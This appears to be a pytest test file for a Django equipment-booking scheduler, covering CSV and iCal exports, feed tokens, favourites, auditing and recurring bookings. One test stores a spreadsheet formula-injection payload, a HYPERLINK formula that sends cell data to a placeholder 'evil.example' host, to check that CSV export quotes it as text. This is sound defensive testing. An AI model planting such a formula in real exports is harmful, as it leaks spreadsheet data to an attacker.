"""Lists, exports and feeds: the calendar page's query count, CSV, iCal, favourites, series.

The API lists' query counts are in the generic table (``scheduler/tests/lists.py``).
"""
import csv
import io

import pytest
from icalendar import Calendar

from core.testing import count_queries
from scheduler import services
from scheduler.models import Booking

from .factories import BookingFactory, DeviceFactory, MaintenanceWindowFactory, at


@pytest.mark.django_db
def test_the_calendar_page_runs_the_same_number_of_queries_for_1_and_30_bookings(client, make_user):
    client.force_login(make_user("operator"))
    device = DeviceFactory()
    week = f"/scheduler/grid/?week={at(1).date().isoformat()}"
    BookingFactory(device=device, start=at(1, 1), end=at(1, 2))
    one, _ = count_queries(client, week)
    for _ in range(29):
        BookingFactory(device=DeviceFactory(), start=at(1, 3), end=at(1, 4), status="confirmed")
    thirty, response = count_queries(client, week)
    assert thirty == one and response.content.decode().count("data-booking=") == 30


@pytest.mark.django_db
def test_csv_export_follows_the_list_filters(client_as):
    device = DeviceFactory(name="Scope")
    kept = BookingFactory(device=device, status="confirmed")
    BookingFactory(status="pending")
    response = client_as("viewer").get("/api/scheduler/export.csv", {"status": "confirmed"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["id", "device", "user"]
    assert [r[0] for r in rows[1:]] == [str(kept.pk)] and rows[1][1] == "Scope"


@pytest.mark.django_db
def test_csv_export_shows_a_typed_formula_as_text(client_as):
    booking = BookingFactory(status="confirmed", comment='=HYPERLINK("http://evil.example/?"&A1,"click")')
    response = client_as("operator").get("/api/scheduler/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["comment"] == "'" + booking.comment
    assert rows[0]["id"] == str(booking.pk)


def test_only_text_that_would_start_a_formula_is_quoted():
    from core.api.mixins import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ["=1+1", "+cmd", "@SUM(A1)", "-2.500", "-x", "plain", 3]] == \
        ["'=1+1", "'+cmd", "'@SUM(A1)", "-2.500", "'-x", "plain", 3]


@pytest.mark.django_db
def test_the_user_feed_lists_own_and_shared_bookings_and_a_rotated_token_stops_working(client_as, make_user):
    owner = make_user("member")
    own = BookingFactory(user=owner, status="confirmed")
    shared = BookingFactory(start=at(3, 10), end=at(3, 11))
    shared.collaborators.add(owner)
    BookingFactory(user=owner, status="cancelled")
    client = client_as("member", owner)
    token = client.get("/api/scheduler/ical/token/").data["token"]
    response = client_as(None).get(f"/api/scheduler/ical/{token}/mine.ics")
    assert response["Content-Type"].startswith("text/calendar")
    events = Calendar.from_ical(response.content).walk("VEVENT")
    assert {str(e["uid"]).split("@")[0] for e in events} == {f"booking-{own.pk}", f"booking-{shared.pk}"}
    assert {str(e["status"]) for e in events} == {"CONFIRMED", "TENTATIVE"}
    new = client.post("/api/scheduler/ical/token/").data["token"]
    assert client_as(None).get(f"/api/scheduler/ical/{token}/mine.ics").status_code == 404
    assert client_as(None).get(f"/api/scheduler/ical/{new}/mine.ics").status_code == 200


@pytest.mark.django_db
def test_the_device_feed_lists_the_device_bookings(make_user):
    from rest_framework.test import APIClient

    device = DeviceFactory()
    bookings = [BookingFactory(device=device, start=at(n, 10), end=at(n, 11)) for n in (1, 2)]
    BookingFactory()
    token = services.feed_token(make_user("viewer"))
    response = APIClient().get(f"/api/scheduler/ical/{token}/devices/{device.pk}.ics")
    events = Calendar.from_ical(response.content).walk("VEVENT")
    assert sorted(e.decoded("dtstart") for e in events) == [b.start for b in bookings]
    assert APIClient().get(f"/api/scheduler/ical/{token}/devices/999999.ics").status_code == 404


@pytest.mark.django_db
def test_favourites_are_per_user(client_as):
    device = DeviceFactory()
    alice, bob = client_as("member"), client_as("member")
    assert alice.post("/api/scheduler/favourites/", {"device": device.pk}).status_code == 201
    assert alice.post("/api/scheduler/favourites/", {"device": device.pk}).status_code == 201
    assert [f["device"] for f in alice.get("/api/scheduler/favourites/").data["results"]] == [device.pk]
    assert bob.get("/api/scheduler/favourites/").data["results"] == []
    assert bob.delete(f"/api/scheduler/favourites/{device.pk}/").status_code == 404
    assert alice.delete(f"/api/scheduler/favourites/{device.pk}/").status_code == 204
    assert alice.post("/api/scheduler/favourites/", {"device": 999999}).status_code == 400


@pytest.mark.django_db
def test_a_favourite_change_is_audited_and_heard_only_on_its_owners_topic(client_as):
    from core.models import AuditEntry, Event

    device = DeviceFactory()
    alice = client_as("member")
    alice.post("/api/scheduler/favourites/", {"device": device.pk})
    alice.post("/api/scheduler/favourites/", {"device": device.pk})  # again: nothing changes, nothing said
    alice.delete(f"/api/scheduler/favourites/{device.pk}/")
    assert list(AuditEntry.objects.filter(action__startswith="favourite.").order_by("id")
                .values_list("action", "changes")) == [("favourite.add", {"favourite": [False, True]}),
                                                        ("favourite.remove", {"favourite": [True, False]})]
    events = Event.objects.filter(type__startswith="favourite.").order_by("id")
    assert [(e.topic, e.type) for e in events] == [(f"user:{alice.user.pk}", "favourite.added"),
                                                   (f"user:{alice.user.pk}", "favourite.removed")]


@pytest.mark.django_db
def test_a_series_books_what_it_can_and_reports_what_conflicts(client_as):
    device = DeviceFactory(max_holders=1)
    MaintenanceWindowFactory(device=device, start=at(3, 9), end=at(3, 12), reason="service")
    taken = BookingFactory(device=device, start=at(5, 10), end=at(5, 11))
    client = client_as("member")
    response = client.post("/api/scheduler/series/", {
        "device": device.pk, "start": at(1, 10).isoformat(), "end": at(1, 11).isoformat(),
        "rrule": "FREQ=DAILY;INTERVAL=2;COUNT=3"}, format="json")
    assert response.status_code == 201
    assert [o["status"] for o in response.data["booked"]] == ["pending"]
    refused = response.data["refused"]
    assert [o["error"] for o in refused] == ["conflict", "conflict"]
    assert "maintenance" in refused[0]["detail"] and f"#{taken.pk}" in refused[1]["detail"]
    assert Booking.objects.filter(series=response.data["series"]["id"]).count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("rule", ["FREQ=SOMETIMES", "FREQ=DAILY"])
def test_a_bad_or_endless_rule_is_400(client_as, rule):
    response = client_as("member").post("/api/scheduler/series/", {
        "device": DeviceFactory().pk, "start": at(1, 10).isoformat(), "end": at(1, 11).isoformat(),
        "rrule": rule}, format="json")
    assert response.status_code == 400 and response.data["fields"]["rrule"]


@pytest.mark.django_db
def test_the_series_service_reports_a_policy_refusal_per_occurrence(make_user):
    member = make_user("member")
    device = DeviceFactory(max_minutes=30)
    series, outcomes = services.create_series(member, device.pk, at(1, 10), at(1, 11), "FREQ=WEEKLY;COUNT=2")
    assert [o["rule"] for o in outcomes] == ["max_length", "max_length"]
    assert series.pk and not Booking.objects.exists()


@pytest.mark.django_db
def test_a_rule_with_its_own_utc_dtstart_follows_the_requested_start(client_as):
    response = client_as("member").post("/api/scheduler/series/", {
        "device": DeviceFactory().pk, "start": at(1, 10).isoformat(), "end": at(1, 11).isoformat(),
        "rrule": "DTSTART:20300101T090000Z\nRRULE:FREQ=DAILY;COUNT=2"}, format="json")
    assert response.status_code == 201, response.data
    assert [b["start"] for b in response.data["booked"]] == [at(1, 10), at(2, 10)]
